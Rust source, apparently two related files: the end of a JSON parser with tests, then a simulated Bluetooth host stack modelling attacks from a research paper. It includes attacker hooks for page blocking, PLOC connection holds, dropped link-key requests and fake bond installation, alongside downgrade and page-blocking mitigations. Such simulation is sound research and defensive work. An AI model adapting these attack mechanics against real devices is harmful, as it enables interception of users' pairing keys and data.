            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(self.err("expected ',' or ']' in array")),
            }
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'u') => {
                            let hex = self
                                .bytes
                                .get(self.pos + 1..self.pos + 5)
                                .and_then(|h| std::str::from_utf8(h).ok())
                                .and_then(|h| u32::from_str_radix(h, 16).ok())
                                .ok_or_else(|| self.err("bad \\u escape"))?;
                            // Surrogates never appear in our own artifacts;
                            // map unpaired ones to U+FFFD rather than erroring.
                            out.push(char::from_u32(hex).unwrap_or('\u{fffd}'));
                            self.pos += 4;
                        }
                        _ => return Err(self.err("bad escape")),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 char (input is &str, so boundaries
                    // are valid; find the next boundary).
                    let start = self.pos;
                    self.pos += 1;
                    while self.pos < self.bytes.len() && (self.bytes[self.pos] & 0xC0) == 0x80 {
                        self.pos += 1;
                    }
                    out.push_str(
                        std::str::from_utf8(&self.bytes[start..self.pos])
                            .expect("input was valid UTF-8"),
                    );
                }
            }
        }
    }

    fn number(&mut self) -> Result<Value, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(
            self.peek(),
            Some(b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-')
        ) {
            self.pos += 1;
        }
        if self.pos == start {
            return Err(self.err("expected a number"));
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).expect("ascii digits");
        Ok(Value::Num(text.to_owned()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_borrows_clean_strings() {
        assert!(matches!(escape("pages_started"), Cow::Borrowed(_)));
        assert_eq!(escape("a\"b"), "a\\\"b");
        assert_eq!(escape("tab\there"), "tab\\there");
    }

    #[test]
    fn esc_display_adapter_escapes_in_place() {
        assert_eq!(format!("{}", esc("no escapes")), "no escapes");
        assert_eq!(
            format!("{}", esc("quote\" slash\\ nl\n")),
            "quote\\\" slash\\\\ nl\\n"
        );
        assert_eq!(format!("{}", esc("\u{1}")), "\\u0001");
    }

    #[test]
    fn parse_round_trips_trace_line_shape() {
        let v =
            parse(r#"{"t":1250,"dev":2,"ev":"lmp_send","peer":"cc:cc:cc:cc:cc:cc","raced":false}"#)
                .expect("parses");
        assert_eq!(v.get("t").and_then(Value::as_u64), Some(1250));
        assert_eq!(v.get("ev").and_then(Value::as_str), Some("lmp_send"));
        assert_eq!(v.get("raced").and_then(Value::as_bool), Some(false));
        assert_eq!(v.get("missing"), None);
    }

    #[test]
    fn parse_preserves_number_literals() {
        let v = parse("[0, 18446744073709551615, -3]").expect("parses");
        let Value::Array(items) = v else { panic!() };
        assert_eq!(items[1], Value::Num("18446744073709551615".to_owned()));
        assert_eq!(items[1].as_u64(), Some(u64::MAX));
        assert_eq!(items[2].as_u64(), None, "negative is not a u64");
    }

    #[test]
    fn parse_unescapes_strings() {
        let v = parse(r#""a\"b\\c\ndA""#).expect("parses");
        assert_eq!(v.as_str(), Some("a\"b\\c\nd\u{41}"));
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!(parse("{\"a\":").is_err());
        assert!(parse("{\"a\":1} trailing").is_err());
        assert!(parse("nope").is_err());
        assert!(parse("\"unterminated").is_err());
    }

    #[test]
    fn escaped_strings_reparse_to_the_original() {
        let hostile = "label\" with \\ hostile\n\tbytes\u{1}";
        let mut doc = String::from("\"");
        escape_into(hostile, &mut doc);
        doc.push('"');
        assert_eq!(parse(&doc).expect("parses").as_str(), Some(hostile));
    }
}
