//! The host stack state machine.

use std::collections::{HashMap, VecDeque};

use blap_hci::{AclData, Command, Event, StatusCode};
use blap_obs::{prof, SpanId, TraceEvent, Tracer};
use blap_types::{
    AssociationModel, BdAddr, ClassOfDevice, ConnectionHandle, Duration, Instant, Role, ServiceUuid,
};

use crate::association::{confirmation_policy, ConfirmationPolicy};
use crate::config::HostConfig;
use crate::keystore::{BondEntry, KeyStore};
use crate::ui::UiNotification;

/// Something the host wants the outside world to do.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HostOutput {
    /// Send an HCI command to the controller.
    Command(Command),
    /// Send ACL data down a link (keep-alive / profile traffic).
    Acl(AclData),
    /// Surface a notification to the user interface.
    Ui(UiNotification),
    /// Arm a timer.
    StartTimer {
        /// Which timer.
        timer: HostTimer,
        /// Relative expiry.
        after: Duration,
    },
}

/// Timers the host arms.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum HostTimer {
    /// Release the PLOC hold for `peer` (Fig 13's fixed delay).
    PlocRelease {
        /// The held peer.
        peer: BdAddr,
    },
    /// Send the next keep-alive frame to `peer`.
    KeepAlive {
        /// The kept-alive peer.
        peer: BdAddr,
    },
}

/// Per-peer connection bookkeeping.
#[derive(Clone, Debug)]
struct Connection {
    handle: Option<ConnectionHandle>,
    /// Local role in *connection establishment* (who paged whom).
    conn_role: Role,
    /// Local role in *pairing*, once pairing starts.
    pairing_role: Option<Role>,
    /// Remote IO capability, once the SSP exchange reveals it.
    remote_io: Option<blap_types::IoCapability>,
    /// Whether encryption is on.
    encrypted: bool,
}

/// The simulated host stack. See the crate docs for the role it plays.
#[derive(Debug)]
pub struct Host {
    config: HostConfig,
    keystore: KeyStore,
    conns: HashMap<BdAddr, Connection>,
    outputs: VecDeque<HostOutput>,
    discovered: Vec<(BdAddr, ClassOfDevice)>,
    discovering: bool,
    /// Pairing requested before the link existed.
    pending_pair: Option<BdAddr>,
    /// Profile connection in flight: peer, service, and whether
    /// authentication has succeeded yet.
    pending_profile: Option<(BdAddr, ServiceUuid, bool)>,
    /// Events whose processing is postponed by the PLOC hook, per peer.
    ploc_held: HashMap<BdAddr, Vec<Event>>,
    /// Open `host_pairing` spans, one per peer this host initiated
    /// pairing/authentication with.
    pairing_spans: HashMap<BdAddr, SpanId>,
    /// Open `ploc` spans, one per held peer.
    ploc_spans: HashMap<BdAddr, SpanId>,
    /// Observability handle (disabled by default; see [`Host::set_tracer`]).
    tracer: Tracer,
    /// Virtual time of the last input, so helpers without a `now` parameter
    /// (e.g. [`Host::install_bond`]) can stamp trace events.
    now: Instant,
}

impl Host {
    /// Creates a host with the given configuration and an empty bond store.
    pub fn new(config: HostConfig) -> Self {
        Host {
            config,
            keystore: KeyStore::new(),
            conns: HashMap::new(),
            outputs: VecDeque::new(),
            discovered: Vec::new(),
            discovering: false,
            pending_pair: None,
            pending_profile: None,
            ploc_held: HashMap::new(),
            pairing_spans: HashMap::new(),
            ploc_spans: HashMap::new(),
            tracer: Tracer::disabled(),
            now: Instant::EPOCH,
        }
    }

    /// Routes this host's trace events (keystore mutations, attack-phase
    /// markers) to `tracer`. Scope it to the owning device first.
    pub fn set_tracer(&mut self, tracer: Tracer) {
        self.tracer = tracer;
    }

    /// Advances the host's notion of virtual time without delivering an
    /// event. The simulation calls this before scripted actions (e.g. a
    /// user starting pairing) so GAP entry points stamp their trace spans
    /// at the action's true time, not the last event's.
    pub fn sync_time(&mut self, now: Instant) {
        if now > self.now {
            self.now = now;
        }
    }

    /// The host configuration.
    pub fn config(&self) -> &HostConfig {
        &self.config
    }

    /// Mutable configuration access (the attack drivers flip hooks here).
    pub fn config_mut(&mut self) -> &mut HostConfig {
        &mut self.config
    }

    /// The bond store.
    pub fn keystore(&self) -> &KeyStore {
        &self.keystore
    }

    /// Mutable bond store access — used by the paper's fake-bonding
    /// installation (Fig 10) and by tests.
    pub fn keystore_mut(&mut self) -> &mut KeyStore {
        &mut self.keystore
    }

    /// Installs a bond entry, exactly like editing `bt_config.conf`.
    pub fn install_bond(&mut self, peer: BdAddr, entry: BondEntry) {
        self.keystore.store(peer, entry);
        if self.tracer.enabled() {
            self.tracer.emit(TraceEvent::KeystoreMutation {
                time: self.now,
                peer,
                action: "install",
            });
        }
    }

    /// Whether an ACL link to `peer` is currently up (and processed).
    pub fn is_connected(&self, peer: BdAddr) -> bool {
        self.conns
            .get(&peer)
            .map(|c| c.handle.is_some())
            .unwrap_or(false)
    }

    /// Whether a PLOC hold is active for `peer`.
    pub fn in_ploc(&self, peer: BdAddr) -> bool {
        self.ploc_held.contains_key(&peer)
    }

    /// Drains everything the host produced since the last call.
    pub fn drain_outputs(&mut self) -> Vec<HostOutput> {
        self.outputs.drain(..).collect()
    }

    fn emit(&mut self, output: HostOutput) {
        self.outputs.push_back(output);
    }

    fn cmd(&mut self, command: Command) {
        self.emit(HostOutput::Command(command));
    }

    /// Opens the host-layer pairing span for `peer`, if tracing is on and
    /// none is already open (re-entrant pairing attempts share one span).
    fn open_pairing_span(&mut self, peer: BdAddr) {
        if self.tracer.enabled() && !self.pairing_spans.contains_key(&peer) {
            let span = self
                .tracer
                .open_span(self.now, "host_pairing", &peer.to_string());
            self.pairing_spans.insert(peer, span);
        }
    }

    fn close_pairing_span(&mut self, peer: BdAddr, status: &'static str) {
        if let Some(span) = self.pairing_spans.remove(&peer) {
            self.tracer.close_span(self.now, span, status);
        }
    }

    fn close_ploc_span(&mut self, peer: BdAddr, status: &'static str) {
        if let Some(span) = self.ploc_spans.remove(&peer) {
            self.tracer.close_span(self.now, span, status);
        }
    }

    fn ui(&mut self, notification: UiNotification) {
        self.emit(HostOutput::Ui(notification));
    }

    // --- GAP API (what the user / user agent calls) -----------------------

    /// Starts device discovery.
    pub fn start_discovery(&mut self) {
        self.discovered.clear();
        self.discovering = true;
        self.cmd(Command::Inquiry {
            inquiry_length: 8,
            num_responses: 0,
        });
    }

    /// Makes the device discoverable/connectable (accessory pairing mode).
    pub fn set_discoverable(&mut self, discoverable: bool) {
        self.cmd(Command::WriteScanEnable {
            inquiry_scan: discoverable,
            page_scan: true,
        });
    }

    /// Initiates pairing with `peer`.
    ///
    /// **This method contains the vulnerability the page blocking attack
    /// exploits (Fig 6b step 6).** When an ACL link for `peer`'s address
    /// already exists, the host skips connection establishment and sends
    /// `HCI_Authentication_Requested` down the *existing* link — without
    /// ever verifying who initiated that link. If an attacker pre-planted a
    /// PLOC connection under the accessory's spoofed address, the pairing
    /// request lands on the attacker.
    pub fn pair_with(&mut self, peer: BdAddr) {
        self.open_pairing_span(peer);
        if let Some(conn) = self.conns.get_mut(&peer) {
            if let Some(handle) = conn.handle {
                conn.pairing_role = Some(Role::Initiator);
                self.cmd(Command::AuthenticationRequested { handle });
                return;
            }
        }
        // No link yet: page first (Fig 12a flow).
        self.pending_pair = Some(peer);
        self.conns.insert(
            peer,
            Connection {
                handle: None,
                conn_role: Role::Initiator,
                pairing_role: Some(Role::Initiator),
                remote_io: None,
                encrypted: false,
            },
        );
        self.cmd(Command::CreateConnection {
            bd_addr: peer,
            allow_role_switch: true,
        });
    }

    /// Establishes a connection to `peer` without any host-layer follow-up.
    ///
    /// For a victim this is a plain connection; for a host whose
    /// [`crate::AttackerHooks::ploc_delay`] is set, the completion event
    /// will be *held* — this is how the attacker enters PLOC.
    pub fn connect_only(&mut self, peer: BdAddr) {
        self.conns.insert(
            peer,
            Connection {
                handle: None,
                conn_role: Role::Initiator,
                pairing_role: None,
                remote_io: None,
                encrypted: false,
            },
        );
        self.cmd(Command::CreateConnection {
            bd_addr: peer,
            allow_role_switch: true,
        });
    }

    /// Connects a profile service (e.g. PAN tethering) to `peer`,
    /// authenticating first. For a bonded peer with a valid key this never
    /// shows any pairing UI — which is exactly how the paper *validates*
    /// extracted keys (§VI-B1: "they do not start a new pairing procedure
    /// if the key is correct").
    pub fn connect_profile(&mut self, peer: BdAddr, service: ServiceUuid) {
        self.open_pairing_span(peer);
        self.pending_profile = Some((peer, service, false));
        if let Some(conn) = self.conns.get_mut(&peer) {
            if let Some(handle) = conn.handle {
                conn.pairing_role = Some(Role::Initiator);
                self.cmd(Command::AuthenticationRequested { handle });
                return;
            }
        }
        self.conns.insert(
            peer,
            Connection {
                handle: None,
                conn_role: Role::Initiator,
                pairing_role: Some(Role::Initiator),
                remote_io: None,
                encrypted: false,
            },
        );
        self.cmd(Command::CreateConnection {
            bd_addr: peer,
            allow_role_switch: true,
        });
    }

    /// Sends application data to a connected peer (profile traffic — the
    /// phone-book entries, messages, tethered packets the paper's attacker
    /// is ultimately after). Returns `false` when no processed link exists.
    pub fn send_data(&mut self, peer: BdAddr, payload: Vec<u8>) -> bool {
        let Some(handle) = self.conns.get(&peer).and_then(|c| c.handle) else {
            return false;
        };
        self.emit(HostOutput::Acl(AclData::new(handle, payload)));
        true
    }

    /// The user answered a pairing confirmation popup.
    pub fn confirm_pairing(&mut self, peer: BdAddr, accept: bool) {
        if accept {
            self.cmd(Command::UserConfirmationRequestReply { bd_addr: peer });
        } else {
            self.cmd(Command::UserConfirmationRequestNegativeReply { bd_addr: peer });
        }
    }

    /// Tears down the link to `peer`.
    pub fn disconnect(&mut self, peer: BdAddr) {
        if let Some(conn) = self.conns.get(&peer) {
            if let Some(handle) = conn.handle {
                self.cmd(Command::Disconnect {
                    handle,
                    reason: StatusCode::RemoteUserTerminated,
                });
            }
        }
    }

    // --- timers -----------------------------------------------------------

    /// A host timer fired.
    pub fn on_timer(&mut self, now: Instant, timer: HostTimer) {
        self.now = now;
        match timer {
            HostTimer::PlocRelease { peer } => self.release_ploc(now, peer),
            HostTimer::KeepAlive { peer } => {
                // Only while the PLOC hold (or the link) is still alive.
                let handle = self
                    .ploc_handle(peer)
                    .or_else(|| self.conns.get(&peer).and_then(|c| c.handle));
                if let Some(handle) = handle {
                    if self.tracer.enabled() {
                        self.tracer.emit(TraceEvent::AttackPhase {
                            time: now,
                            label: "ploc_keepalive",
                        });
                    }
                    // A dummy SDP service-search PDU.
                    self.emit(HostOutput::Acl(AclData::new(
                        handle,
                        vec![0x02, 0x00, 0x01, 0x00, 0x00],
                    )));
                    let interval = self.config.keepalive_interval;
                    self.emit(HostOutput::StartTimer {
                        timer: HostTimer::KeepAlive { peer },
                        after: interval,
                    });
                }
            }
        }
    }

    /// Peeks the connection handle out of a held `Connection_Complete`.
    fn ploc_handle(&self, peer: BdAddr) -> Option<ConnectionHandle> {
        self.ploc_held.get(&peer)?.iter().find_map(|e| match e {
            Event::ConnectionComplete { handle, .. } => Some(*handle),
            _ => None,
        })
    }

    /// Ends the PLOC hold: processes every held event in order.
    ///
    /// Called by the release timer, or early when pairing-related traffic
    /// arrives (the paper: "the host should stop the postponement when a
    /// pairing procedure is initiated by M").
    fn release_ploc(&mut self, now: Instant, peer: BdAddr) {
        if let Some(held) = self.ploc_held.remove(&peer) {
            if self.tracer.enabled() {
                self.tracer.emit(TraceEvent::AttackPhase {
                    time: now,
                    label: "ploc_release",
                });
            }
            self.close_ploc_span(peer, "released");
            for event in held {
                self.process_event(now, event);
            }
        }
    }

    // --- ACL --------------------------------------------------------------

    /// ACL data arrived from `peer` (profile traffic / keep-alives).
    pub fn on_acl(&mut self, _now: Instant, _peer: BdAddr, _data: &AclData) {
        // Keep-alives need no reply; profile data is out of scope beyond
        // the connection-establishment semantics the attacks rely on.
    }

    // --- HCI event processing ----------------------------------------------

    /// Processes one HCI event from the controller.
    pub fn on_event(&mut self, now: Instant, event: Event) {
        self.now = now;
        // Fig 13 hook: hold Connection_Complete processing for PLOC peers.
        if let Some(delay) = self.config.attacker.ploc_delay {
            if let Event::ConnectionComplete {
                status: StatusCode::Success,
                bd_addr,
                ..
            } = &event
            {
                let initiated_plain_connection = self
                    .conns
                    .get(bd_addr)
                    .map(|c| c.pairing_role.is_none() && c.handle.is_none())
                    .unwrap_or(false);
                if initiated_plain_connection && !self.ploc_held.contains_key(bd_addr) {
                    let _prof = prof::scope("ploc");
                    let peer = *bd_addr;
                    if self.tracer.enabled() {
                        self.tracer.emit(TraceEvent::AttackPhase {
                            time: now,
                            label: "ploc_hold",
                        });
                        let span = self.tracer.open_span(now, "ploc", &peer.to_string());
                        self.ploc_spans.insert(peer, span);
                    }
                    self.ploc_held.insert(peer, vec![event]);
                    self.emit(HostOutput::StartTimer {
                        timer: HostTimer::PlocRelease { peer },
                        after: delay,
                    });
                    if self.config.attacker.ploc_keepalive {
                        let interval = self.config.keepalive_interval;
                        self.emit(HostOutput::StartTimer {
                            timer: HostTimer::KeepAlive { peer },
                            after: interval,
                        });
                    }
                    return;
                }
            }
            // Pairing traffic for a held peer releases the hold first.
            if let Some(peer) = event_peer(&event) {
                if self.ploc_held.contains_key(&peer) && is_pairing_event(&event) {
                    self.release_ploc(now, peer);
                }
            }
        }
        // Stack-shaped counterpart of the causal host_pairing span, which
        // stays open across scheduler callbacks: attribute each pairing
        // event's processing instead.
        let _prof = is_pairing_event(&event).then(|| prof::scope("host_pairing"));
        self.process_event(now, event);
    }

    fn process_event(&mut self, _now: Instant, event: Event) {
        match event {
            Event::InquiryResult { bd_addr, cod } => {
                if self.discovering && !self.discovered.iter().any(|(a, _)| *a == bd_addr) {
                    self.discovered.push((bd_addr, cod));
                }
            }
            Event::InquiryComplete { .. } => {
                if self.discovering {
                    self.discovering = false;
                    let devices = self.discovered.clone();
                    self.ui(UiNotification::DiscoveryComplete { devices });
                }
            }
            Event::ConnectionRequest { bd_addr, .. } => {
                // Accept inbound connections: the host cannot know yet
                // whether the pager is legitimate — the paper's point.
                self.conns.insert(
                    bd_addr,
                    Connection {
                        handle: None,
                        conn_role: Role::Responder,
                        pairing_role: None,
                        remote_io: None,
                        encrypted: false,
                    },
                );
                self.cmd(Command::AcceptConnectionRequest {
                    bd_addr,
                    role_switch: false,
                });
            }
            Event::ConnectionComplete {
                status,
                handle,
                bd_addr,
                ..
            } => {
                if status.is_success() {
                    if let Some(conn) = self.conns.get_mut(&bd_addr) {
                        conn.handle = Some(handle);
                    } else {
                        self.conns.insert(
                            bd_addr,
                            Connection {
                                handle: Some(handle),
                                conn_role: Role::Responder,
                                pairing_role: None,
                                remote_io: None,
                                encrypted: false,
                            },
                        );
                    }
                    self.ui(UiNotification::ConnectionEstablished { peer: bd_addr });
                    if self.pending_pair == Some(bd_addr)
                        || matches!(self.pending_profile, Some((p, _, false)) if p == bd_addr)
                    {
                        self.pending_pair = None;
                        self.cmd(Command::AuthenticationRequested { handle });
                    }
                } else {
                    self.conns.remove(&bd_addr);
                    self.close_pairing_span(bd_addr, "connect_failed");
                    if self.pending_pair == Some(bd_addr) {
                        self.pending_pair = None;
                    }
                    if matches!(self.pending_profile, Some((p, _, _)) if p == bd_addr) {
                        let (_, service, _) = self.pending_profile.take().unwrap();
                        self.ui(UiNotification::ProfileFailed {
                            peer: bd_addr,
                            service,
                            status,
                        });
                    }
                    self.ui(UiNotification::ConnectFailed {
                        peer: bd_addr,
                        status,
                    });
                }
            }
            Event::DisconnectionComplete { handle, .. } => {
                let peer = self.peer_by_handle(handle);
                if let Some(peer) = peer {
                    self.conns.remove(&peer);
                    self.ploc_held.remove(&peer);
                    self.close_ploc_span(peer, "dropped");
                    self.close_pairing_span(peer, "dropped");
                }
            }
            Event::PinCodeRequest { bd_addr } => match self.config.pin.clone() {
                Some(pin) if !pin.is_empty() => {
                    self.cmd(Command::PinCodeRequestReply { bd_addr, pin });
                }
                _ => {
                    self.cmd(Command::PinCodeRequestNegativeReply { bd_addr });
                }
            },
            Event::LinkKeyRequest { bd_addr } => {
                // Fig 9 hook: the attacker's host simply never answers.
                if self.config.attacker.ignore_link_key_request {
                    if self.tracer.enabled() {
                        self.tracer.emit(TraceEvent::AttackPhase {
                            time: self.now,
                            label: "fig9_drop_link_key_request",
                        });
                    }
                    return;
                }
                match self.keystore.get(bd_addr) {
                    Some(entry) => {
                        let link_key = entry.link_key;
                        self.cmd(Command::LinkKeyRequestReply { bd_addr, link_key });
                    }
                    None => {
                        self.cmd(Command::LinkKeyRequestNegativeReply { bd_addr });
                    }
                }
            }
            Event::IoCapabilityRequest { bd_addr } => {
                // If pairing reaches us without us having initiated it, we
                // are the pairing responder.
                if let Some(conn) = self.conns.get_mut(&bd_addr) {
                    conn.pairing_role.get_or_insert(Role::Responder);
                }
                let io_capability = self.config.io_capability;
                let auth_requirements = self.config.auth_requirements;
                self.cmd(Command::IoCapabilityRequestReply {
                    bd_addr,
                    io_capability,
                    oob_data_present: false,
                    auth_requirements,
                });
            }
            Event::IoCapabilityResponse {
                bd_addr,
                io_capability,
                ..
            } => {
                if let Some(conn) = self.conns.get_mut(&bd_addr) {
                    conn.remote_io = Some(io_capability);
                }
                // §VII-B mitigation: pairing initiator + connection
                // responder + NoInputNoOutput connection initiator = the
                // page blocking fingerprint.
                if self.config.mitigations.reject_noio_connection_initiator {
                    let conn = self.conns.get(&bd_addr);
                    let suspicious = conn
                        .map(|c| {
                            c.pairing_role == Some(Role::Initiator)
                                && c.conn_role == Role::Responder
                                && io_capability == blap_types::IoCapability::NoInputNoOutput
                        })
                        .unwrap_or(false);
                    if suspicious {
                        self.ui(UiNotification::SecurityAlert {
                            peer: bd_addr,
                            reason: "pairing initiated locally over a remotely-initiated \
                                     connection from a NoInputNoOutput device; dropping \
                                     (page blocking suspected)"
                                .to_owned(),
                        });
                        self.close_pairing_span(bd_addr, "aborted");
                        self.disconnect(bd_addr);
                        self.pending_profile = None;
                    }
                }
            }
            Event::UserConfirmationRequest {
                bd_addr,
                numeric_value,
            } => {
                let conn = self.conns.get(&bd_addr);
                let pairing_role = conn.and_then(|c| c.pairing_role).unwrap_or(Role::Responder);
                let remote_io = conn
                    .and_then(|c| c.remote_io)
                    .unwrap_or(blap_types::IoCapability::NoInputNoOutput);
                let (init_io, resp_io) = match pairing_role {
                    Role::Initiator => (self.config.io_capability, remote_io),
                    Role::Responder => (remote_io, self.config.io_capability),
                };
                let model = AssociationModel::select(init_io, resp_io);
                let policy = confirmation_policy(
                    self.config.version.generation(),
                    self.config.io_capability,
                    model,
                    pairing_role,
                );
                match policy {
                    ConfirmationPolicy::AutoConfirm => {
                        self.cmd(Command::UserConfirmationRequestReply { bd_addr });
                    }
                    ConfirmationPolicy::YesNoPopup => {
                        self.ui(UiNotification::PairingConfirmation {
                            peer: bd_addr,
                            numeric: None,
                        });
                    }
                    ConfirmationPolicy::NumericPopup => {
                        self.ui(UiNotification::PairingConfirmation {
                            peer: bd_addr,
                            numeric: Some(numeric_value),
                        });
                    }
                }
            }
            Event::LinkKeyNotification {
                bd_addr,
                link_key,
                key_type,
            } => {
                if self.config.mitigations.detect_key_type_downgrade {
                    let downgraded = self
                        .keystore
                        .get(bd_addr)
                        .map(|old| old.key_type.is_authenticated() && !key_type.is_authenticated())
                        .unwrap_or(false);
                    if downgraded {
                        self.ui(UiNotification::SecurityAlert {
                            peer: bd_addr,
                            reason: "re-pairing downgraded an authenticated bond to \
                                     Just Works; keeping the old key and dropping the \
                                     link (downgrade suspected)"
                                .to_owned(),
                        });
                        self.close_pairing_span(bd_addr, "aborted");
                        self.disconnect(bd_addr);
                        return;
                    }
                }
                let name = self
                    .discovered
                    .iter()
                    .find(|(a, _)| *a == bd_addr)
                    .map(|_| blap_types::DeviceName::new(format!("{bd_addr}")));
                self.keystore.store(
                    bd_addr,
                    BondEntry {
                        name,
                        link_key,
                        key_type,
                        services: Vec::new(),
                    },
                );
                if self.tracer.enabled() {
                    self.tracer.emit(TraceEvent::KeystoreMutation {
                        time: self.now,
                        peer: bd_addr,
                        action: "store",
                    });
                }
                self.ui(UiNotification::BondStored { peer: bd_addr });
            }
            Event::SimplePairingComplete { status, bd_addr } => {
                self.ui(UiNotification::PairingComplete {
                    peer: bd_addr,
                    success: status.is_success(),
                });
                if !status.is_success()
                    && matches!(self.pending_profile, Some((p, _, _)) if p == bd_addr)
                {
                    let (_, service, _) = self.pending_profile.take().unwrap();
                    self.ui(UiNotification::ProfileFailed {
                        peer: bd_addr,
                        service,
                        status,
                    });
                }
            }
            Event::AuthenticationComplete { status, handle } => {
                let Some(peer) = self.peer_by_handle(handle) else {
                    return;
                };
                self.close_pairing_span(peer, if status.is_success() { "ok" } else { "failed" });
                self.ui(UiNotification::AuthenticationOutcome { peer, status });
                if status.invalidates_link_key() && self.keystore.remove(peer).is_some() {
                    if self.tracer.enabled() {
                        self.tracer.emit(TraceEvent::KeystoreMutation {
                            time: self.now,
                            peer,
                            action: "remove",
                        });
                    }
                    self.ui(UiNotification::BondLost { peer });
                }
                if status.is_success() {
                    if let Some((p, _service, done)) = self.pending_profile {
                        if p == peer && !done {
                            self.pending_profile =
                                self.pending_profile.map(|(p, s, _)| (p, s, true));
                            self.cmd(Command::SetConnectionEncryption {
                                handle,
                                enable: true,
                            });
                        }
                    }
                } else if matches!(self.pending_profile, Some((p, _, _)) if p == peer) {
                    let (_, service, _) = self.pending_profile.take().unwrap();
                    self.ui(UiNotification::ProfileFailed {
                        peer,
                        service,
                        status,
                    });
                }
            }
            Event::EncryptionChange {
                status,
                handle,
                enabled,
            } => {
                let Some(peer) = self.peer_by_handle(handle) else {
                    return;
                };
                if let Some(conn) = self.conns.get_mut(&peer) {
                    conn.encrypted = enabled;
                }
                if status.is_success() && enabled {
                    if let Some((p, service, true)) = self.pending_profile {
                        if p == peer {
                            self.pending_profile = None;
                            // Profile-level traffic: one SDP-ish exchange.
                            self.emit(HostOutput::Acl(AclData::new(
                                handle,
                                vec![0x06, 0x00, 0x01, 0x00, 0x0f],
                            )));
                            self.ui(UiNotification::ProfileConnected { peer, service });
                        }
                    }
                }
            }
            Event::CommandStatus { status, opcode, .. } => {
                if !status.is_success() {
                    // Failed command starts: surface connection failures.
                    if opcode == blap_hci::Opcode::CREATE_CONNECTION {
                        if let Some(peer) = self.pending_pair.take() {
                            self.ui(UiNotification::ConnectFailed { peer, status });
                        }
                    }
                }
            }
            Event::CommandComplete { .. } => {}
        }
    }

    fn peer_by_handle(&self, handle: ConnectionHandle) -> Option<BdAddr> {
        self.conns
            .iter()
            .find(|(_, c)| c.handle == Some(handle))
            .map(|(a, _)| *a)
            .or_else(|| {
                // PLOC-held links know their handle from the held event.
                self.ploc_held
                    .keys()
                    .copied()
                    .find(|peer| self.ploc_handle(*peer) == Some(handle))
            })
    }
}

/// Which peer an event concerns, when the event names one directly.
fn event_peer(event: &Event) -> Option<BdAddr> {
    match event {
        Event::ConnectionRequest { bd_addr, .. }
        | Event::ConnectionComplete { bd_addr, .. }
        | Event::LinkKeyRequest { bd_addr }
        | Event::LinkKeyNotification { bd_addr, .. }
        | Event::IoCapabilityRequest { bd_addr }
        | Event::IoCapabilityResponse { bd_addr, .. }
        | Event::UserConfirmationRequest { bd_addr, .. }
        | Event::SimplePairingComplete { bd_addr, .. }
        | Event::InquiryResult { bd_addr, .. } => Some(*bd_addr),
        _ => None,
    }
}

/// Whether an event belongs to a pairing procedure (releases a PLOC hold).
fn is_pairing_event(event: &Event) -> bool {
    matches!(
        event,
        Event::LinkKeyRequest { .. }
            | Event::IoCapabilityRequest { .. }
            | Event::IoCapabilityResponse { .. }
            | Event::UserConfirmationRequest { .. }
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{AttackerHooks, HostConfig};
    use blap_types::{BtVersion, IoCapability, LinkKey, LinkKeyType};

    fn addr(tag: u8) -> BdAddr {
        BdAddr::new([0xAA, 0, 0, 0, 0, tag])
    }

    fn key() -> LinkKey {
        "71a70981f30d6af9e20adee8aafe3264".parse().unwrap()
    }

    fn now() -> Instant {
        Instant::EPOCH
    }

    fn connected_phone(peer: BdAddr) -> Host {
        let mut host = Host::new(HostConfig::phone(BtVersion::V5_0));
        host.on_event(
            now(),
            Event::ConnectionRequest {
                bd_addr: peer,
                cod: ClassOfDevice::HANDS_FREE,
                link_type: 1,
            },
        );
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(3),
                bd_addr: peer,
                encryption_enabled: false,
            },
        );
        host.drain_outputs();
        host
    }

    #[test]
    fn pair_with_unconnected_peer_pages_first() {
        let mut host = Host::new(HostConfig::phone(BtVersion::V5_0));
        host.pair_with(addr(1));
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::CreateConnection { bd_addr, .. }) if *bd_addr == addr(1)
        )));
        // Fig 12a: Authentication_Requested only after Connection_Complete.
        host.on_event(
            now(),
            Event::ConnectionComplete {
                status: StatusCode::Success,
                handle: ConnectionHandle::new(6),
                bd_addr: addr(1),
                encryption_enabled: false,
            },
        );
        let outs = host.drain_outputs();
        assert!(outs.iter().any(|o| matches!(
            o,
            HostOutput::Command(Command::AuthenticationRequested { .. })
        )));
    }

    #[test]
    fn pair_with_connected_peer_skips_paging() {
        // The page blocking vulnerability: an existing (attacker-planted)
        // link short-circuits connection establishment.
        let mut host = connected_phone(addr(1));
        host.pair_with(addr(1));
        let outs = host.drain_outputs();
        assert!(
            outs.iter().any(|o| matches!(
                o,
                HostOutput::Command(Command::AuthenticationRequested { .. })
            )),
            "pairing must ride the existing link"
        );
        assert!(
            !outs
                .iter()
                .any(|o| matches!(o, HostOutput::Command(Command::CreateConnection { .. }))),
            "no new page when a link already exists"
        );
    }

    #[test]
    fn link_key_request_answered_from_keystore() {
        let mut host = connected_phone(addr(1));
        host.install_bond(
            addr(1),
            BondEntry {
                name: None,
                link_key: key(),
                key_type: LinkKeyType::UnauthenticatedP256,
